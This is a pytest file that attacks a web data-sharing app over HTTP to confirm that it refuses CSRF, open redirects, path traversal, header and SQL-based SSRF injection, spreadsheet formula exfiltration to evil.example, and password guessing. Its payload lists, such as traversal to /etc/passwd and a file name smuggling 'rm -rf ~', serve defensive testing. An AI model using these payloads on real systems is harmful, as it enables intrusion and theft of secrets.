"""Attacks over HTTP on a shelf where people sign in, each refused: what docs/security.md promises."""

from __future__ import annotations

import base64
import csv
import http.client
import io
import json
import re
import socket
import statistics
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, quote, urlencode, urljoin, urlsplit

import httpx
import pytest
from websockets.exceptions import ConnectionClosed
from websockets.sync.client import ClientConnection, connect
from websockets.typing import Origin, Subprotocol

from catalog.identity import COOKIE
from tests.shelf_client import problem, unique
from tests.team import ADMIN, Team, email_of, password_of, running_team

pytestmark = pytest.mark.long

EVIL = "https://evil.example"
ROWS = b"town,height\nOslo,23\nBergen,12\n"


@pytest.fixture(scope="module")
def team(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Team]:
    # At its most talkative, so that what the log must not hold is looked for in all that it could hold.
    with running_team(tmp_path_factory.mktemp("attacked") / "data", {"LOG_LEVEL": "debug"}) as team:
        yield team


@pytest.fixture(scope="module")
def limited(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Team]:
    """Where limits are low. Each test has its own kind of limit, and whoever signed in took nothing from it."""
    limits = {"RATES__SIGN_IN": "8", "RATES__API": "60", "RATES__LINK": "6"}
    with running_team(tmp_path_factory.mktemp("limited") / "data", limits) as team:
        yield team


def stored(team: Team, name: str, data: bytes, file_name: str, **fields: Any) -> dict[str, Any]:
    """A file of the person's, as `complete` answers it."""
    with team.client(name) as client:
        started = client.post("/uploads", json={"filename": file_name, "size": len(data), **fields})
        assert started.status_code == 201, started.text
        put = httpx.put(started.json()["parts"][0]["url"], content=data, timeout=60)
        parts = [{"number": 1, "etag": put.headers["etag"]}]
        done = client.post(f"/uploads/{started.json()['upload_id']}/complete", json={"parts": parts})
    assert done.status_code == 200, done.text
    dataset: dict[str, Any] = done.json()
    return dataset


def link_to(team: Team, name: str, dataset: dict[str, Any]) -> str:
    with team.client(name) as client:
        answer = client.get(f"/files/{dataset['file_id']}/download")
    assert answer.status_code == 307, answer.text
    return answer.headers["location"]


def asked_raw(team: Team, path: str, *, method: str = "GET", **headers: str) -> tuple[int, bytes]:
    """The path goes over the wire as it is written here: no client tidies it up."""
    connection = http.client.HTTPConnection("127.0.0.1", team.app.port, timeout=30)
    try:
        connection.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
        for header, value in headers.items():
            connection.putheader(header, value)
        connection.endheaders()
        answer = connection.getresponse()
        return answer.status, answer.read()
    finally:
        connection.close()


# --- Other people's pages: CSRF, rebinding, reading across origins ---


FOREIGN = (
    {"Origin": EVIL},
    {"Origin": "null"},
    {"Origin": "http://localhost:1"},
    {"Origin": "http://localhost.evil.example"},
    {"Sec-Fetch-Site": "cross-site"},
    {"Sec-Fetch-Site": "same-site"},
)


def test_no_call_that_changes_something_is_taken_from_a_foreign_page(team: Team) -> None:
    with team.client(ADMIN) as client:
        paths = client.get("/openapi.json").json()["paths"]
        calls = [(method, path) for path, item in paths.items() for method in item if method not in ("get", "head")]
        calls += [("post", path) for path in ("/sign-in", "/sign-out", "/set-up", "/set-password")]
        assert len(calls) > 25
        for method, path in calls:
            address = team.app.url + re.sub(r"\{\w+\}", str(uuid.uuid4()), path)
            for headers in FOREIGN[:1] if path.startswith("/api") else FOREIGN:
                # What a form of another site can send without being asked first: Fetch, "CORS-safelisted".
                answer = client.request(method, address, headers=headers, content=b"a=b")
                problem(answer, 403, "foreign-origin")
        for headers in FOREIGN:
            problem(client.post("/tokens", headers=headers, json={"name": "stolen", "scope": "write"}), 403)
        assert client.get("/tokens").json()["items"] == []
        assert client.get("/me").status_code == 200


def test_no_other_origin_is_let_read_an_answer(team: Team) -> None:
    preflight = {"Origin": EVIL, "Access-Control-Request-Method": "DELETE"}
    with team.client(ADMIN) as client:
        for path in ("/datasets", "/me", "/openapi.json", f"{team.app.url}/", f"{team.app.url}/_stcore/health"):
            for answer in (client.get(path, headers={"Origin": EVIL}), client.options(path, headers=preflight)):
                assert "access-control-allow-origin" not in answer.headers, path


def handshake(team: Team, **headers: str) -> int:
    key = base64.b64encode(b"0123456789abcdef").decode()
    wanted = {
        "Host": f"localhost:{team.app.port}",
        "Connection": "Upgrade",
        "Upgrade": "websocket",
        "Sec-WebSocket-Version": "13",
        "Sec-WebSocket-Key": key,
        "Sec-WebSocket-Protocol": "streamlit",
        **{name.replace("_", "-"): value for name, value in headers.items()},
    }
    lines = "".join(f"{name}: {value}\r\n" for name, value in wanted.items())
    with socket.create_connection(("127.0.0.1", team.app.port), timeout=30) as line:
        line.sendall(f"GET /_stcore/stream HTTP/1.1\r\n{lines}\r\n".encode())
        return int(line.recv(100).split()[1])


def test_the_screens_talk_to_no_foreign_page_and_under_no_foreign_name(team: Team) -> None:
    own = f"http://localhost:{team.app.port}"
    assert handshake(team, Origin=own) == 101
    assert handshake(team, Origin=EVIL) == 403
    assert handshake(team, Origin="null") == 403
    # DNS rebinding: the page's own origin is the foreign name that now resolves to us.
    assert handshake(team, Host="evil.example", Origin="http://evil.example") == 403
    assert handshake(team, Host=f"evil.example:{team.app.port}", Origin=f"http://evil.example:{team.app.port}") == 403


def test_a_foreign_name_is_refused_whatever_a_forwarded_header_says(team: Team) -> None:
    for headers in (
        {"Host": "evil.example"},
        {"Host": "evil.example", "X-Forwarded-Host": "localhost"},
        {"Host": "localhost@evil.example"},
        {"Host": "localhost.evil.example"},
        {"Host": "[::1].evil.example"},
    ):
        for path in ("/", "/sign-in", "/api/ml/v1/datasets", "/s/x/download"):
            problem(httpx.get(team.app.url + path, headers=headers), 403, "unknown-host")
    told = httpx.get(f"{team.app.url}/sign-in", headers={"X-Forwarded-Host": "evil.example"})
    assert "evil.example" not in told.text


# --- Sessions ---


def test_no_altered_session_is_taken(team: Team) -> None:
    good = team.new_session("ben")
    flipped = good[:-1] + ("A" if good[-1] != "A" else "B")
    made_up = (flipped, good[:-1], good + "x", good.upper(), good[::-1], "", "x", "' OR 1=1 --", "%00", "a" * 8000)
    for secret in (*made_up, str(uuid.uuid4()), team.ids["ben"], base64.b64encode(b'{"user":"ada"}').decode()):
        with team.app.client(headers={"Cookie": f"{COOKIE}={secret}"}) as client:
            problem(client.get("/me"), 401, "not-signed-in")
    with team.with_session(good) as client:
        assert client.get("/me").json()["name"] == "ben"


def test_a_session_from_before_is_not_the_one_after_signing_in(team: Team) -> None:
    planted = "planted-by-somebody-else"
    eves = team.new_session("eve")
    for before in (planted, eves):
        answer = team.sign_in("ben", **{COOKIE: before})
        after = answer.cookies[COOKIE]
        assert after != before
        flags = answer.headers["set-cookie"].lower()
        assert "httponly" in flags
        assert "samesite=lax" in flags
        assert "domain=" not in flags
        with team.with_session(before) as client:
            problem(client.get("/me"), 401)
        with team.with_session(after) as client:
            assert client.get("/me").json()["name"] == "ben"


@pytest.mark.parametrize(
    "wanted",
    [
        "https://evil.example/",
        "//evil.example/",
        "///evil.example/",
        "/\\evil.example",
        "\\\\evil.example",
        "/\t/evil.example",
        "/\n/evil.example",
        "\t//evil.example",
        "/..//evil.example",
        "/.//evil.example",
        "https:evil.example",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "/\r\nSet-Cookie: pwned=1",
        "/\u2028/evil.example",
        "http://[evil",
        "@evil.example",
        ".evil.example",
    ],
)
def test_signing_in_never_leads_to_another_site(team: Team, wanted: str) -> None:
    form = {"login": email_of("ben"), "password": password_of("ben"), "next": wanted}
    posted = httpx.post(f"{team.app.url}/sign-in", data=form, timeout=60)
    with team.client("ben") as client:
        shown = client.get(f"{team.app.url}/sign-in", params={"next": wanted})
    for answer in (posted, shown):
        assert answer.status_code == 303, answer.text
        assert "pwned" not in answer.headers.get("set-cookie", "")
        place = answer.headers["location"]
        assert place.isprintable()
        assert "\\" not in place
        # As a browser reads it: tabs and line breaks dropped, a backslash a slash.
        assert urlsplit(urljoin(f"{team.app.url}/sign-in", place)).netloc == urlsplit(team.app.url).netloc


# --- Names, paths and keys ---


NAMES = (
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\evil.csv",
    "....//....//secret_key",
    "%2e%2e%2fsecret_key",
    "..%c0%afsecret_key",
    ".",
    "..",
    "a\x00.csv",
    "evil.csv\r\nSet-Cookie: pwned=1",
    'a"; filename="evil.html',
    "a\u202efdp.csv",
    "naïve ☃.csv",
    "; rm -rf ~.csv",
    "con.csv",
)


def test_no_file_name_is_a_path_or_a_header(team: Team) -> None:
    with team.client("ben") as client:
        for name in NAMES:
            begun = client.post("/uploads", json={"filename": name, "size": len(ROWS)})
            if begun.status_code == 422:
                problem(begun, 422, "invalid-file-name")
                continue
            started = begun.json()
            url = started["parts"][0]["url"]
            # The key is ours: nothing of the name is in it.
            assert re.fullmatch(r"/api/ml/v1/objects/\w+/\w+/\d{4}/\d\d/[0-9a-f-]{36}", urlsplit(url).path), url
            etag = httpx.put(url, content=ROWS).headers["etag"]
            done = client.post(
                f"/uploads/{started['upload_id']}/complete", json={"parts": [{"number": 1, "etag": etag}]}
            ).json()
            kept = done["files"][0]["file_name"]
            assert not set(kept) & set("/\\\r\n\0")
            given = httpx.get(link_to(team, "ben", done))
            assert given.content == ROWS
            shown = given.headers["content-disposition"]
            assert shown.isascii()
            assert shown.startswith("attachment; filename=")
            assert shown.count('"') == 2
            assert "set-cookie" not in given.headers
        problem(client.post("/uploads", json={"filename": "a\r\nb", "size": 1}), 422, "invalid-file-name")


def test_no_address_leads_out_of_its_folder(team: Team) -> None:
    secret = (team.app.data_dir / "secret_key").read_bytes()
    dataset = stored(team, "ben", ROWS, f"{unique()}.csv")
    link = urlsplit(link_to(team, "ben", dataset))
    bucket = link.path.split("/")[5]
    out = (
        "../" * 6,
        "..%2f" * 6,
        "%2e%2e/" * 6,
        "%2e%2e%2f" * 6,
        "%252e%252e%252f" * 6,
        "..%5c" * 6,
        "..%00/",
        "/" * 3,
    )
    assert asked_raw(team, f"{link.path}?{link.query}", Host="localhost") == (200, ROWS)
    places = ("/app/static/", "/static/", "/media/", "/component/", "/api/ml/v1/docs/assets/", "/sign-in/")
    for way in out:
        for place in (*places, f"/api/ml/v1/objects/{bucket}/", "/api/ml/v1/objects/", "/s/x/raw/"):
            for target in ("etc/passwd", "secret_key", "data/secret_key"):
                status, body = asked_raw(team, f"{place}{way}{target}?{link.query}", Host="localhost")
                assert status < 500, (place, way)
                assert secret not in body, (place, way)
                assert b"root:" not in body, (place, way)


# --- Local signed links ---


def test_a_signed_link_is_good_for_exactly_what_was_signed(team: Team) -> None:
    mine = stored(team, "ben", ROWS, f"{unique()}.csv")
    other = stored(team, "eve", b"town,height\nsecret,1\n", f"{unique()}.csv")
    link, others = urlsplit(link_to(team, "ben", mine)), urlsplit(link_to(team, "eve", other))
    given = dict(parse_qsl(link.query))
    assert httpx.get(link.geturl()).content == ROWS

    def asked(method: str = "GET", path: str = link.path, **change: str | None) -> httpx.Response:
        query = {name: value for name, value in {**given, **change}.items() if value is not None}
        return httpx.request(method, link._replace(path=path, query=urlencode(query)).geturl())

    later = f"{float(given['expires']) + 9999:.3f}"
    forged = {
        "expiry": asked(expires=later),
        "no expiry": asked(expires=None),
        "key": asked(path=others.path),
        "bucket": asked(path=link.path.replace("/objects/", "/objects/x", 1)),
        "route": asked(path=link.path.replace("/objects/", "/relay/", 1)),
        "method": asked(method="PUT"),
        "HEAD": asked(method="HEAD"),
        "file name": asked(filename="evil.html"),
        "inline": asked(inline="1"),
        "no signature": asked(signature=None),
        "empty signature": asked(signature=""),
        "another's signature": asked(signature=dict(parse_qsl(others.query))["signature"]),
        "part": asked(method="PUT", uploadId="x", partNumber="1"),
        "twice": httpx.get(f"{link.geturl()}&expires={later}"),
        "added": httpx.get(f"{link.geturl()}&more=1"),
    }
    for what, answer in forged.items():
        assert answer.status_code == 403, what
        assert b"secret" not in answer.content
    assert httpx.get(link.geturl()).content == ROWS


def test_what_people_stored_never_runs_as_a_page_of_ours(team: Team) -> None:
    page = b"<!doctype html><script>parent.pwned = 1</script>"
    drawing = b'<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"><script>pwned()</script></svg>'
    kept = (
        (page, "a.html", "text/html"),
        (drawing, "a.svg", "image/svg+xml"),
        (page, "a.csv", "text/html"),
        (b"pwned()", "a.js", "text/javascript"),
        (b"pwned()", "b", "application/ecmascript"),
        (b"*{}", "a.css", "text/css"),
        (drawing, "a.xml", "application/xml"),
    )
    for data, name, kind in kept:
        dataset = stored(team, "ben", data, f"{unique()}-{name}", content_type=kind)
        answer = httpx.get(link_to(team, "ben", dataset), headers={"Accept": "text/html"})
        assert answer.content == data
        assert answer.headers["content-disposition"].startswith("attachment;")
        # <script src> takes what is called JavaScript, and with nosniff nothing else (HTML, "fetch a classic script").
        assert answer.headers["x-content-type-options"] == "nosniff"
        called = "text/csv" if name == "a.csv" else "application/octet-stream"
        assert answer.headers["content-type"] == called
        assert "sandbox" in answer.headers["content-security-policy"]
        assert "script-src" not in answer.headers["content-security-policy"]


# --- What the server itself could be made to fetch, read or write ---


def test_no_query_reaches_a_host_or_a_file(team: Team) -> None:
    dataset = stored(team, "ben", ROWS, f"{unique()}.csv")
    target = Path(team.app.data_dir) / "written.csv"
    secret = team.app.data_dir / "secret_key"
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.2)
        host = f"127.0.0.1:{listener.getsockname()[1]}"
        queries = [
            f"SELECT * FROM read_csv('http://{host}/x.csv')",
            f"SELECT * FROM 'http://{host}/x.parquet'",
            f"SELECT * FROM read_text('http://{host}/')",
            f"SELECT * FROM read_parquet('s3://{host}/a')",
            "SELECT * FROM read_text('/etc/passwd')",
            f"SELECT * FROM read_blob('{secret}')",
            f"SELECT * FROM '{secret}'",
            "SELECT * FROM glob('/*')",
            f"SELECT * FROM read_csv('{team.app.data_dir}/datashelf.db')",
            f"COPY (SELECT 1) TO '{target}'",
            f"ATTACH '{team.app.data_dir}/datashelf.db' AS shelf",
            "INSTALL httpfs",
            "LOAD httpfs",
            "SET enable_external_access = true",
            "PRAGMA database_list",
            "SELECT 1; SELECT 2",
            f"SELECT * FROM postgres_scan('host={host}', 'public', 'x')",
            "SELECT getenv('PATH')",
        ]
        with team.client("ben") as client:
            for sql in queries:
                for call in ("query", "query/export"):
                    body = {"sql": sql, "format": "csv"} if call == "query/export" else {"sql": sql}
                    answer = client.post(f"/files/{dataset['file_id']}/{call}", json=body)
                    problem(answer, 422)
                    assert "root:" not in answer.text
                    assert secret.read_text() not in answer.text
            for where in (f"town IN (SELECT content FROM read_text('{secret}'))", "1=1); DROP TABLE data; --"):
                answer = client.post(f"/files/{dataset['file_id']}/shares", json={"where": where})
                problem(answer, 422)
        with pytest.raises(TimeoutError):
            listener.accept()
    assert not target.exists()


def test_nothing_that_is_sent_is_taken_for_an_address_to_fetch(team: Team) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.3)
        host = f"http://127.0.0.1:{listener.getsockname()[1]}"
        words = f'<img src="{host}/a">\n![b]({host}/b)\n{host}/c'
        dataset = stored(team, "ben", words.encode(), f"{unique()}.csv", content_type="text/html")
        with team.client("ben") as client:
            client.patch(f"/datasets/{dataset['id']}", json={"description": words, "tags": ["a"]})
            for call in ("preview", "profile"):
                client.get(f"/files/{dataset['file_id']}/{call}")
            form = {"filename": (None, "a.csv"), "size": (None, str(len(words)))}
            client.post("/inspect", files={**form, "head": words.encode(), "tail": words.encode()})
        with pytest.raises(TimeoutError):
            listener.accept()


# --- Formulas ---


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_a_result_stays_exact_and_the_activity_is_no_formula(team: Team) -> None:
    cells = [FORMULA, "+1+1", "-1+1", "@SUM(A1)", "=1+1"]
    data = io.StringIO()
    csv.writer(data).writerows([["cell"], *([cell] for cell in cells)])
    dataset = stored(team, "ben", data.getvalue().encode(), f"{unique()}.csv")
    with team.client("ben") as client:
        changed = client.patch(f"/datasets/{dataset['id']}", json={"name": f"{FORMULA} {uuid.uuid4().hex[:6]}"})
        assert changed.status_code == 200, changed.text
        made = client.post(
            f"/files/{dataset['file_id']}/query/export", json={"sql": "SELECT cell FROM data", "format": "csv"}
        )
        assert made.status_code in (200, 201), made.text
        result = client.get(made.json()["url"])
    # Data is data: whoever computes with it gets what was stored (docs/security.md).
    assert [row[0] for row in csv.reader(io.StringIO(result.text))][1:] == cells
    with team.client(ADMIN) as client:
        exported = client.get("/activity/export", params={"format": "csv"}).text
    rows = list(csv.reader(io.StringIO(exported)))
    assert any(FORMULA in cell for row in rows for cell in row)
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


# --- Guessing ---


def test_what_exists_is_told_to_nobody_who_may_not_see_it(team: Team) -> None:
    dataset = stored(team, "eve", ROWS, f"{unique()}.csv")
    with team.client("eve") as client:
        assert client.put(f"/datasets/{dataset['id']}/access", json={"visibility": "private"}).status_code == 200
    unknown = str(uuid.uuid4())
    calls = (
        ("GET", "/datasets/{d}", None),
        ("PATCH", "/datasets/{d}", {"description": "x"}),
        ("DELETE", "/datasets/{d}", None),
        ("GET", "/datasets/{d}/access", None),
        ("PUT", "/datasets/{d}/access", {"visibility": "team"}),
        ("PUT", "/datasets/{d}/owner", {"to": "ben"}),
        ("GET", "/datasets/{d}/activity", None),
        ("GET", "/files/{f}", None),
        ("GET", "/files/{f}/download", None),
        ("GET", "/files/{f}/preview", None),
        ("POST", "/files/{f}/query", {"sql": "SELECT 1"}),
        ("POST", "/files/{f}/shares", {}),
        ("POST", "/uploads", {"filename": "a.csv", "size": 1, "dataset_id": "{d}"}),
    )
    for who in ("ben", ADMIN):
        with team.client(who) as client:
            for method, path, body in calls:
                if who == ADMIN and path.endswith("/owner"):
                    continue  # an admin may hand over what they do not see

                def ask(d: str, f: str, method: str = method, path: str = path, body: Any = body) -> tuple[int, str]:
                    sent = json.loads(json.dumps(body).replace("{d}", d)) if body is not None else None
                    answer = client.request(method, path.format(d=d, f=f), json=sent)
                    return answer.status_code, re.sub(r"[0-9a-f-]{36}", "…", answer.text)

                there = ask(dataset["id"], dataset["file_id"])
                assert there == ask(unknown, unknown), (who, method, path)
                assert there[0] == 404
            assert dataset["name"] not in client.get("/datasets", params={"limit": 200}).text


def test_a_wrong_password_and_an_unknown_person_are_told_apart_by_nothing(team: Team) -> None:
    def attempt(login: str) -> tuple[float, int, str]:
        form = {"login": login, "password": "not the password"}
        began = time.perf_counter()
        answer = httpx.post(f"{team.app.url}/sign-in", data=form, timeout=60)
        return time.perf_counter() - began, answer.status_code, answer.text.replace(login, "…")

    # Three people, so that nobody is locked out meanwhile; in turn, so that a busy machine is busy for both.
    known, unknown = [], []
    for turn in range(9):
        known.append(attempt(email_of(("ben", "eve", "vic")[turn % 3])))
        unknown.append(attempt(f"nobody-{turn}@example.org"))
    assert {each[1:] for each in known} == {each[1:] for each in unknown}
    assert len({each[1:] for each in known}) == 1
    ratio = statistics.median(each[0] for each in known) / statistics.median(each[0] for each in unknown)
    assert 1 / 3 < ratio < 3


def from_address(number: int) -> dict[str, str]:
    """What a proxy on this machine says of whose call it is: each test guesses from an address of its own."""
    return {"X-Forwarded-For": f"203.0.113.{number}"}


def guess(limited: Team, login: str, number: int) -> httpx.Response:
    form = {"login": login, "password": "a guess"}
    return httpx.post(f"{limited.app.url}/sign-in", data=form, headers=from_address(number), timeout=120)


def test_guessing_passwords_from_one_address_is_slowed(limited: Team) -> None:
    answers = [guess(limited, f"{unique()}@example.org", 1) for _ in range(10)]
    assert [answer.status_code == 429 for answer in answers] == [False] * 8 + [True] * 2
    assert 1 <= int(answers[-1].headers["retry-after"]) <= 60
    # The right one waits as well, else guessing would go on; from elsewhere it is right.
    form = {"login": email_of("vic"), "password": password_of("vic")}
    for number, status in ((1, 429), (2, 303)):
        answer = httpx.post(f"{limited.app.url}/sign-in", data=form, headers=from_address(number), timeout=60)
        assert answer.status_code == status


def test_many_guesses_at_once_are_as_many(limited: Team) -> None:
    seen: list[int] = []
    threads = [
        threading.Thread(target=lambda: seen.append(guess(limited, f"{unique()}@example.org", 3).status_code))
        for _ in range(16)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert (len(seen), seen.count(429)) == (16, 8)


def test_those_who_sign_in_take_nothing_from_the_limit(limited: Team) -> None:
    form = {"login": email_of("vic"), "password": password_of("vic")}
    for _ in range(10):
        answer = httpx.post(f"{limited.app.url}/sign-in", data=form, headers=from_address(4), timeout=60)
        assert answer.status_code == 303


def test_calls_of_the_api_are_counted_by_person_and_by_token(limited: Team) -> None:
    with limited.bearer(limited.token("eve")) as client:
        statuses = [client.get("/me").status_code for _ in range(61)]
        last = client.get("/me")
        assert statuses == [200] * 60 + [429]
        assert problem(last, 429, "too-many-attempts")["detail"]
        assert 1 <= int(last.headers["retry-after"]) <= 60
        # An upload that has begun goes on; beginning one is a call like any other.
        problem(client.get(f"/uploads/{uuid.uuid4()}"), 404)
        problem(client.post("/uploads/same", json={}), 429)
    with limited.client("eve") as client:
        assert client.get("/me").status_code == 200  # she herself is not held up by her script
    assert httpx.get(f"{limited.app.url}/api/health/ready").status_code == 200
    assert httpx.get(f"{limited.app.url}/metrics").status_code == 200


def test_guessing_tokens_is_slowed(limited: Team) -> None:
    statuses = []
    with limited.app.client(headers=from_address(5)) as client:
        for _ in range(61):
            made_up = {"Authorization": f"Bearer {uuid.uuid4().hex}"}
            statuses.append(client.get("/me", headers=made_up).status_code)
        assert statuses == [401] * 60 + [429]
        # Whoever is somebody is not held up by a neighbour's guesses.
        client.cookies.set(COOKIE, limited.sessions["ben"])
        assert client.get("/me").status_code == 200


def test_nobody_begins_any_number_of_uploads_by_a_link(limited: Team) -> None:
    with limited.client("ben") as client:
        url = client.post("/requests", json={"max_files": 1}).json()["url"]
    visitor, file = from_address(8), {"filename": "x.csv", "size": 1}
    answers = [httpx.post(f"{url}/uploads", json=file, headers=visitor, timeout=60) for _ in range(61)]
    assert [answer.status_code for answer in answers] == [201] + [409] * 59 + [429]
    begun = f"{url}/uploads/{answers[0].json()['upload_id']}"
    assert httpx.get(begun, headers=visitor, timeout=60).status_code == 200
    assert httpx.post(f"{url}/uploads", json=file, headers=from_address(9), timeout=60).status_code == 409


def test_guessing_passwords_of_links_is_slowed_over_all_links(limited: Team) -> None:
    dataset = stored(limited, "ben", ROWS, f"{unique()}.csv")
    with limited.client("ben") as client:
        links = [
            client.post(f"/files/{dataset['file_id']}/shares", json={"password": "right one"}).json()["url"]
            for _ in range(2)
        ]
    guesser = from_address(6)
    for turn in range(3):
        for link in links:
            answer = httpx.post(f"{link}/unlock", data={"password": f"wrong {turn}"}, headers=guesser, timeout=60)
            problem(answer, 401, "password-needed")
    problem(httpx.post(f"{links[0]}/unlock", data={"password": "right one"}, headers=guesser), 429)
    problem(httpx.get(f"{links[1]}/raw/a.csv", auth=("", "right one"), headers=guesser), 429)
    assert httpx.get(f"{links[1]}/raw/a.csv", auth=("", "right one"), headers=from_address(7)).status_code == 307


# --- Sizes, errors, logs ---


def test_streamlits_own_uploader_takes_nothing(team: Team) -> None:
    place = "_stcore/upload_file"
    ways = (
        f"/{place}",
        f"/{place}/a/b",
        f"/dataset/{place}/a/b",
        f"/any/depth/at/all/{place}/a/b",
        f"//{place}/a/b",
        "/_stcore//upload_file/a/b",
        "/_stcore/upload%5Ffile/a/b",
        "/%5fstcore/%75pload_file/a/b",
        "/_stcore%2Fupload_file/a/b",
        "/_stcore%252Fupload_file/a/b",
        "/_stcore/upload_file%2Fa/b",
    )
    for way in ways:
        for method in ("PUT", "POST", "DELETE", "OPTIONS", "GET"):
            status, body = asked_raw(team, way, method=method, Host="localhost", **{"Content-Length": "0"})
            assert (status, b'"not-found"' in body or b"nothing at" in body) == (404, True), (method, way, body[:200])


def test_a_link_for_a_part_takes_no_more_than_was_announced(team: Team) -> None:
    with team.client("ben") as client:
        asked = client.post("/requests", json={"max_size": 10})
        assert asked.status_code == 201, asked.text
        sent = f"{team.app.url}/s/{asked.json()['token']}/uploads"
        started = httpx.post(sent, json={"filename": "a.csv", "size": 3}).json()
        more = httpx.post(f"{sent}/{started['upload_id']}/parts", json={"numbers": [1]}).json()
        own = client.post("/uploads", json={"filename": "a.csv", "size": 3}).json()
    for link in (part["parts"][0]["url"] for part in (started, more, own)):
        problem(httpx.put(link, content=b"abcd"), 413, "part-too-large")
        problem(httpx.put(link.replace("size=3", "size=4"), content=b"abcd"), 403, "link-invalid")
        assert httpx.put(link, content=b"abc").status_code == 200


def test_a_token_that_only_reads_is_told_no_address_that_writes(team: Team) -> None:
    dataset = stored(team, "ben", ROWS, f"{unique()}.csv")
    with team.client("ben") as client:
        made = client.post(f"/files/{dataset['file_id']}/shares", json={}).json()
        asked = client.post("/requests", json={}).json()
        before = client.get("/shares").text, client.get("/requests").text
    assert all(one["token"] in text for one, text in zip((made, asked), before, strict=True))
    with team.bearer(team.token("ben", "read")) as client:
        shares, requests = client.get("/shares"), client.get("/requests")
    for answer, one in ((shares, made), (requests, asked)):
        assert one["token"] not in answer.text
        (told,) = [item for item in answer.json()["items"] if item["id"] == one["id"]]
        assert {told[name] for name in ("url", "token", "raw_url") if name in told} == {None}


def test_forms_and_calls_have_a_bound(team: Team) -> None:
    big = "x" * 20_000
    for path in ("/sign-in", "/set-up?token=x", "/set-password?token=x", "/s/x/unlock"):
        problem(httpx.post(team.app.url + path, data={"password": big}), 413, "body-too-large")
        chunked = httpx.post(
            team.app.url + path,
            content=iter([b"password=" + big.encode()]),
            headers={"Content-Type": "application/x-www-form-urlencoded"},
        )
        problem(chunked, 413, "body-too-large")
    # What is long is read only once it is known who sends it.
    empty = b"[" + b"{}," * 40_000 + b"{}]"
    for address in (f"{team.app.api}/uploads", f"{team.app.api}/uploads/same"):
        for headers in ({}, {"Authorization": "Bearer nobody"}, {"Cookie": f"{COOKIE}=nobody"}):
            problem(httpx.post(address, content=empty, headers=headers), 401, "not-signed-in")
        problem(httpx.post(address, content=iter([b"{}"])), 401, "not-signed-in")
    problem(httpx.post(f"{team.app.url}/s/nothing/uploads", content=empty), 404, "request-not-found")
    with team.client("ben") as client:
        problem(client.post("/uploads", content=empty), 422, "invalid-input")
        problem(client.post("/uploads", content=b" " * (4 * 1024 * 1024 + 1)), 413, "body-too-large")
        problem(client.get("/me", headers={"X-Big": "x" * 100_000}), 431, "headers-too-large")
    assert asked_raw(team, f"/sign-in?next=/{'a' * 8_000}", Host="localhost")[0] == 200
    assert asked_raw(team, f"/sign-in?next=/{'a' * 100_000}", Host="localhost")[0] in (400, 414, 431)


@pytest.mark.parametrize("path", [f"/%25{'25' * 30_000}", f"/app/static/{'a/' * 20_000}", f"/{'a' * 3_000}"])
def test_no_address_is_looked_at_for_long(team: Team, path: str) -> None:
    status, body = asked_raw(team, path, Host="localhost")
    assert (status, b"path-too-long" in body) == (414, True)


def test_a_screens_connection_takes_no_long_message(team: Team) -> None:
    sent = 0

    def pieces() -> Iterator[bytes]:
        nonlocal sent
        for _ in range(1_000):
            yield b"x" * 100_000
            sent += 100_000

    def send_without_end(line: ClientConnection) -> None:
        line.send(pieces())
        line.recv(timeout=30)

    with (
        connect(
            f"ws://localhost:{team.app.port}/_stcore/stream",
            subprotocols=[Subprotocol("streamlit")],
            origin=Origin(f"http://localhost:{team.app.port}"),
            proxy=None,
        ) as line,
        pytest.raises(ConnectionClosed) as closed,
    ):
        send_without_end(line)
    # It may be cut off before the client has read why.
    assert closed.value.rcvd is None or closed.value.rcvd.code == 1009
    # Not held until its end: beyond the 2 MiB there is only what lies in the sockets' own buffers.
    assert sent < 50_000_000


def test_no_answer_tells_a_secret_or_a_traceback(team: Team) -> None:
    typed = "my own pass phrase"
    answers = [
        httpx.post(f"{team.app.url}/sign-in", data={"login": email_of("ben"), "password": typed}, timeout=60),
        httpx.post(f"{team.app.url}/s/nothing/unlock", data={"password": typed}),
    ]
    with team.client("ben") as client:
        answers += [
            client.post("/me/password", json={"old": typed}),
            client.post("/me/password", json={"old": typed, "new": 5}),
            client.post("/tokens", json={"password": typed}),
            client.post("/uploads", content=f'{{"filename": "{typed}'),
        ]
    for answer in answers:
        assert 400 <= answer.status_code < 500
        assert typed not in answer.text
        assert "Traceback" not in answer.text


def test_nothing_secret_is_in_the_log(team: Team) -> None:
    """A whole story, with the log at its most talkative, and then the log is read."""
    dataset = stored(team, "ben", ROWS, f"{unique()}.csv")
    link = link_to(team, "ben", dataset)
    assert httpx.get(link).content == ROWS
    with team.client("ben") as client:
        signed = client.get(f"/files/{dataset['file_id']}/download-url").json()["url"]
        made = client.post(f"/files/{dataset['file_id']}/shares", json={"password": "open sesame"}).json()
        began = client.post("/uploads", json={"filename": "b.csv", "size": 3}).json()
        token = client.post("/tokens", json={"name": unique(), "scope": "write"}).json()["token"]
    with team.bearer(token) as client:
        assert client.get("/me").status_code == 200
    share = made["url"].rsplit("/", 1)[1]
    unlocked = httpx.post(f"{made['url']}/unlock", data={"password": "open sesame"})
    assert unlocked.status_code == 303
    visit = httpx.Client(cookies=unlocked.cookies, follow_redirects=True)
    assert visit.get(f"{made['url']}/download").content == ROWS
    assert visit.get(f"{team.app.url}/shared?token={share}").status_code == 200
    basic = httpx.get(f"{made['url']}/raw/a.csv", auth=("", "open sesame"), follow_redirects=True)
    assert basic.content == ROWS
    refused = httpx.get(f"{made['url']}/raw/a.csv", auth=("", "open barley"))
    assert refused.status_code == 401
    # As the screens do: the session travels in the handshake of their websocket.
    own = f"http://localhost:{team.app.port}"
    assert handshake(team, Origin=own, Cookie=f"{COOKIE}={team.sessions['ben']}") == 101
    secrets = {
        "a download's signature": dict(parse_qsl(urlsplit(link).query))["signature"],
        "a signed URL": dict(parse_qsl(urlsplit(signed).query))["signature"],
